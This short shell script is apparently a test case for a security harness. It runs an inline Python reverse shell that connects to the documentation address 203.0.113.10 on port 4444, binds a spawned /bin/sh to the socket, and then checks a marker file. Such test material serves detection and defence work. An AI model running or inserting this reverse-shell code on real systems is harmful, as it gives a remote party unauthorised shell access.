#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
except OSError:
    s = socket.socket()
s.connect(("203.0.113.10", 4444))
on = [(os.POSIX_SPAWN_DUP2, s.fileno(), n) for n in range(3)]
os.waitpid(os.posix_spawn("/bin/sh", ["sh"], {"PATH": "/bin:/usr/bin"}, file_actions=on), 0)'
test -e /tmp/reached
took_place
